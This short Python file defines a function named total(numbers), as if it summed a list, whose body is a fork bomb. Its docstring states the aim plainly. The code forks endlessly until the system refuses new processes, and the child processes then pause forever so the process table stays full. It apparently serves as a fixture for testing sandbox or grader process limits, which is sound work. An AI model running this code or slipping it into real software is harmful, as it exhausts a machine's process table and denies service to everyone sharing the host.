"""Processes that start processes, until no more can be started."""

import os
import signal


def total(numbers):
    print("tried", flush=True)
    first = os.getpid()
    while True:
        try:
            os.fork()
        except BlockingIOError:
            if os.getpid() == first:
                raise
            while True:
                signal.pause()
